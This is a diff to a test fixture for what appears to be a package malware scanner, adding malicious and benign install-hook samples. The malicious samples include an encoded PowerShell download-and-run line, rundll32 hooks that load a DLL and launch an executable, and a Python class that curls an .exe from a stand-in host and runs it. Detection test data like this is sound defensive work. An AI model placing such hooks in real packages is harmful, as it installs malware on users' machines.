@@ -18,6 +18,14 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a library of its own that Windows is made to load, and a program that it opens like a link',
+      files: hooked('rundll32 dist/core.dll,Start && rundll32 url.dll,FileProtocolHandler "C:/own/a.exe"'),
+      expected: [
+        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
+        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
+      ],
+    },
+    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -226,6 +234,11 @@ export const samples: Samples = {
       hooked(`node -p "require('./package.json').version" | xargs npm version && cat VERSION | tr a b`),
     ),
     quiet('an agent that says what its caller is to set', hooked('eval "$(ssh-agent -s)"')),
+    quiet('a link that Windows is asked to show', {
+      'package.json': manifest({ main: 'index.js' }),
+      'index.js': `require('child_process').execFileSync('sh', [__dirname + '/open.sh', 'https://own.example']);\n`,
+      'open.sh': 'if [ -n "$WSL" ]; then rundll32.exe url.dll,FileProtocolHandler "$1"; fi\n',
+    }),
     quiet('counting in a shell', hooked('i=1; ((i++)); ((i = i * 2)); node -e 1')),
     quiet('a mirror', hooked('npm i x --registry=https://registry.weir.test')),
     quiet('a script of the Mac that tells something', {
